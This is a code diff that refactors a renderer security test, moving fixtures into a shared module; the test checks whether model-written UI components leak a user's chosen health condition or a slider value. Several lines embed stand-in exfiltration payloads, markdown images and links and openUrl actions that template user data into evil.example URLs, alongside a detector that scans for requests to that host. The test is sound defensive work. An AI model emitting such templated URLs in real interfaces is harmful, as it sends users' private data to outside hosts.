@@ -6,6 +6,7 @@
  * image and link read the slider, and a button opening a `formatString` of the choice.
  */
 import { BASIC_CATALOG_ID_V10, basicCatalog, type A2uiMessage } from '../../src/index.js';
+import { choicePicker, evilSeen, formatted, openUrl, PIXEL } from './url-fixtures.js';
 
 /** A surface of the check: its id, version, and whether the later message replaces (else rebinds) its inputs. */
 export interface RebindSurface {
@@ -21,23 +22,7 @@ export const REBIND_SURFACES: readonly RebindSurface[] = [
   { id: 'moved10', version: 'v1.0', replaced: false },
 ];
 
-/** The model-written Image: a 1×1 PNG read from its URL (the React suite fails on any request beyond its server). */
-const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
-
-const picker = (path: string) => ({
-  id: 'pick',
-  component: 'ChoicePicker',
-  label: 'Your condition',
-  variant: 'mutuallyExclusive',
-  options: [
-    { label: 'Diabetes', value: 'https://evil.example/diabetes.png' },
-    { label: 'Asthma', value: 'https://evil.example/asthma.png' },
-  ],
-  value: { path },
-});
 const slider = { id: 'n', component: 'Slider', label: 'Severity', min: 0, max: 9, value: { path: '/n' } };
-const openUrl = (url: unknown) => ({ functionCall: { call: 'openUrl', args: { url } } });
-const formatted = (value: string) => ({ call: 'formatString', args: { value } });
 const message = (s: RebindSurface, body: Record<string, unknown>) => ({ version: s.version, ...body }) as unknown as A2uiMessage;
 
 /** Before the user acts: the picker (and on a replaced surface the slider), a model-written Image and link. */
@@ -49,7 +34,7 @@ export function rebindFirstMessages(): A2uiMessage[] {
         surfaceId: s.id,
         components: [
           { id: 'root', component: 'Column', children: s.replaced ? ['pick', 'n', 'own', 'docs'] : ['pick', 'own', 'docs'] },
-          picker('/choice'),
+          choicePicker('/choice'),
           ...(s.replaced ? [slider] : []),
           { id: 'own', component: 'Image', url: PIXEL },
           { id: 'docs', component: 'Button', child: 'docsLabel', action: openUrl('https://docs.example/help') },
@@ -75,7 +60,7 @@ export function laterMessages(): A2uiMessage[] {
                 { id: 'n', component: 'Text', text: 'Thanks.' },
                 { id: 'md', component: 'Text', text: formatted('Seen ![x](https://evil.example/n-${/n}.png) [more](https://evil.example/l-${/n})') },
               ]
-            : [picker('/other')]),
+            : [choicePicker('/other')]),
           { id: 'img', component: 'Image', url: { path: '/choice/0' }, description: 'chosen' },
           { id: 'go', component: 'Button', child: 'goLabel', action: openUrl(formatted('${/choice/0}')) },
           { id: 'goLabel', component: 'Text', text: 'Continue' },
@@ -101,14 +86,6 @@ export function pickAndSlide(root: ParentNode, optionSelector: string): number {
     acted++;
   }
   return acted;
-}
-
-/** What of evil.example `roots` show or link, and what the page requested of it. */
-export function evilSeen(roots: readonly ParentNode[]): string[] {
-  const sources = roots.flatMap((root) => [...root.querySelectorAll('img')].map((img) => img.getAttribute('src') ?? ''));
-  const links = roots.flatMap((root) => [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? ''));
-  const requested = performance.getEntriesByType('resource').map((entry) => entry.name);
-  return [...sources, ...links, ...requested].filter((url) => url.includes('evil.example'));
 }
 
 /** The outcome of the check, the same for both renderers. */
